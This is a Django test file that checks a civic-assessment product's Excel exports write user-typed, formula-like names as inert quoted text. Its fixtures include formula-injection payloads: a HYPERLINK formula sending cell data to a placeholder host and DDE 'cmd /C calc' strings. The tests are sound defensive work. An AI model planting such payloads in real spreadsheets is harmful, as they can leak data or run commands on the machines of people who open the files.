"""Every workbook the product writes is inert: names and texts people typed that look like
formulas (``=HYPERLINK(…)``, ``+…``, ``-…``, ``@…``, full-width ``＝…``) come out as text, shown as
typed and never evaluated, fetched through each export's own address by someone who may have it
(the public list without logging in). Units exported and imported back are unchanged."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.assessments.conftest import standard  # noqa: F401
from tests.campaigns.conftest import campaign  # noqa: F401
from tests.campaigns.test_score_sheet import at_evaluation
from tests.conftest import need_cjk_font
from tests.documents.test_campaign_docs import done  # noqa: F401
from tests.ledger.conftest import civic  # noqa: F401
from tests.ledger.test_ledger import record
from wenming.balance.models import SchoolIndicators
from wenming.campaigns.models import Evaluation
from wenming.core.xlsx_safe import FORMULA_STARTS
from wenming.imports.services import import_preview
from wenming.jobs.models import Job
from wenming.jobs.services import job_run, result_path
from wenming.ledger.binder import build_binder
from wenming.ledger.models import IndicatorAssignment
from wenming.organizations.models import Department
from wenming.organizations.services import region_upsert, unit_upsert
from wenming.rectification.services import problem_create

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x/?"&A1,"点我")'  # the first school
AT = "@SUM(1+1)*cmd|' /C calc'!A0"  # the second school
MINUS = "-2+3+cmd|' /C calc'!A0"  # the education bureau (a supervising body)
PLUS = "+临江街道"  # the township
WIDE = "＝1+1 办公室"  # a department, full-width equals sign
PROBLEM = "=1+1 操场破损"
DESCRIPTION = "-2-2 东侧"
LOCATION = "@东门"
PERSON = "＠张三"
NOTE = "－备注"
REASON = "=东侧围墙破损"
ACTIVITY = "+志愿服务"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def hostile(world):
    """The world's units, township and a department renamed the way a hostile office or unit
    could type them, through the same services the import and the unit pages use."""
    for unit, name in ((world.s1, LINK), (world.s2, AT), (world.bureau, MINUS)):
        unit_upsert(credit_code=unit.credit_code, values={"name": name})
        unit.refresh_from_db()
    unit_upsert(credit_code=world.s1.credit_code, values={}, departments=[WIDE])
    region_upsert(code=world.town.code, name=PLUS, level=world.town.level, parent=world.east)
    world.town.refresh_from_db()
    return world


def workbook_texts(name: str, content: bytes) -> set[str]:
    """Every text in the workbook; fails when a cell is a formula or a text that starts like one
    lacks the quote prefix."""
    assert content[:2] == b"PK", f"{name}: not an .xlsx file"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                xml = archive.read(member)
                assert b"<f>" not in xml and b"<f " not in xml, f"{name}: {member} has a formula"
    texts = set()
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{name}: {sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value[:1] in FORMULA_STARTS:
                        assert cell.quotePrefix, f"{where} ({cell.value!r}) lacks the quote prefix"
    return texts


def assert_inert(name: str, content: bytes, *shown: str) -> None:
    texts = workbook_texts(name, content)
    for text in shown:
        assert any(text in t for t in texts), f"{name}: {text!r} missing"


def fetch(client: Client, user, url: str, *, post: bool = False) -> bytes:
    client.logout()
    if user is not None:
        client.force_login(user)
    response = client.post(url) if post else client.get(url)
    assert response.status_code == 200, f"{url}: {response.status_code}"
    return response.content


def test_every_export_writes_hostile_names_as_text(client, hostile, done, standard):  # noqa: F811
    world, (named, _) = hostile, done
    office, people = world.people.east_office, world.people
    problem_create(
        actor=office, unit=world.s1, source="patrol", title=PROBLEM, description=DESCRIPTION,
        location=LOCATION,
    )  # fmt: skip
    for unit in (world.s1, world.s2):
        SchoolIndicators.objects.create(
            unit=unit, year=2026, stage="小学", enrolment=500,
            **{code: 3 for code in ("floor_area", "sports_area", "equipment_value", "computers",
                                    "books", "teacher_ratio", "qualified_teachers",
                                    "senior_teachers")},
        )  # fmt: skip
    IndicatorAssignment.objects.create(
        unit=world.s1, edition=standard, code="A1.6", person=PERSON, note=NOTE,
        department=Department.objects.get(unit=world.s1, name=WIDE),
    )  # fmt: skip
    exports = [
        ("公示名单", None, reverse("campaigns:public_export", args=[named.pk]), [LINK, PLUS]),
        ("排名", office, reverse("documents:campaign_ranking", args=[named.pk]), [LINK, AT]),
        ("目标完成", office, reverse("campaigns:results_export", args=[named.pk]), []),
        ("仪表盘排名", office, reverse("dashboards:export", args=["ranking"]), [LINK, AT]),
        ("整改统计", office, reverse("rectification:overview_export"), [PLUS, MINUS]),
        ("单位导出", office, reverse("imports:export", args=["units"]), [LINK, AT, MINUS, WIDE]),
        ("问题导出", office, reverse("imports:export", args=["problems"]),
         [LINK, PROBLEM, DESCRIPTION, LOCATION]),
        ("称号导入表", office, reverse("imports:export", args=["titles"]), [LINK]),
        ("称号名单", office, reverse("titles:export"), [LINK, AT]),
        ("均衡数据", office, reverse("imports:export", args=["balance"]) + "?year=2026",
         [LINK, AT]),
        ("均衡差异系数", office,
         reverse("balance:export") + f"?region={world.east.pk}&year=2026", [LINK, AT]),
        ("任务分解", people.unit_admin,
         reverse("imports:export", args=["assignments"])
         + f"?unit={world.s1.pk}&edition={standard.pk}", [WIDE, PERSON, NOTE]),
        ("测评体系", office, reverse("frameworks:export", args=["school-standard", "2026", "xlsx"]),
         []),
    ]  # fmt: skip
    for name, user, url, shown in exports:
        assert_inert(name, fetch(client, user, url), *shown)
    # initial passwords for the units without an administrator (the bureau has none)
    sheet = fetch(client, office, reverse("accounts:bulk_create"), post=True)
    assert_inert("初始账号", sheet, MINUS, AT)


def test_score_sheets_keep_a_hostile_deduction_reason_as_text(client, hostile, done):  # noqa: F811
    world, (named, made) = hostile, done
    evaluation = Evaluation.objects.get(application=made[LINK])
    evaluation.data["items"]["A1.6"]["reason"] = REASON  # as a reviewer typed it on paper
    evaluation.save()
    client.force_login(world.people.east_office)
    client.post(reverse("documents:campaign_batch", args=[named.pk]), {"kind": "score_sheets"})
    job = Job.objects.get()
    job_run(job.pk)
    with zipfile.ZipFile(result_path(job)) as archive:
        # the file is named after the unit, shortened to what follows its last "/"
        (member,) = [n for n in archive.namelist() if "点我" in n]
        sheet = archive.read(member)
        ranking = archive.read(f"{named.name}测评结果排名.xlsx")
    assert_inert("评分表", sheet, f"单位:{LINK}", REASON)
    assert_inert("排名(批量)", ranking, LINK, AT)


def test_the_blank_paper_score_sheet_is_inert(client, hostile, campaign):  # noqa: F811
    application = at_evaluation(hostile, campaign)
    url = reverse("campaigns:score_sheet", args=[application.pk])
    assert_inert("空白评分表", fetch(client, hostile.people.east_office, url), LINK)


def test_the_binder_index_keeps_a_hostile_activity_title_as_text(world, civic):  # noqa: F811
    need_cjk_font()
    record(world, civic, title=ACTIVITY, day=date(2026, 1, 15), codes=("C1.2",), photos=1)
    job = Job.objects.create(
        kind="binder", label="迎检", owner=world.people.other_filler, unit=world.other,
        params={"edition": civic.pk},
    )  # fmt: skip
    result = build_binder(job, lambda *progress: None)
    with zipfile.ZipFile(result) as archive:
        index = archive.read("江西区人民医院迎检材料/00_索引.xlsx")
    assert_inert("台账索引", index, ACTIVITY)
    result.unlink()


def test_units_exported_and_imported_back_are_unchanged(client, hostile):
    content = fetch(client, hostile.people.east_office, reverse("imports:export", args=["units"]))
    _, plan = import_preview(
        kind="units", filename="单位.xlsx", content=content, user=hostile.people.east_office
    )
    assert plan.ok, [str(e) for e in plan.errors]
    assert plan.counts()["无变化"] == len(plan.changes) > 0
    assert plan.counts()["新增"] == plan.counts()["更新"] == 0


def test_a_hostile_assignment_exported_and_imported_back_is_unchanged(client, hostile, standard):  # noqa: F811
    admin = hostile.people.unit_admin
    IndicatorAssignment.objects.create(
        unit=hostile.s1, edition=standard, code="A1.6", person=PERSON, note=NOTE,
        department=Department.objects.get(unit=hostile.s1, name=WIDE),
    )  # fmt: skip
    context = {"unit": str(hostile.s1.pk), "edition": str(standard.pk)}
    url = reverse("imports:export", args=["assignments"])
    content = fetch(client, admin, url + f"?unit={hostile.s1.pk}&edition={standard.pk}")
    _, plan = import_preview(
        kind="assignments", filename="任务.xlsx", content=content, user=admin, context=context
    )
    (change,) = [c for c in plan.changes if c.key == "A1.6"]
    assert (change.action, change.data["person"], change.data["note"]) == ("无变化", PERSON, NOTE)
    assert change.data["department"].name == WIDE
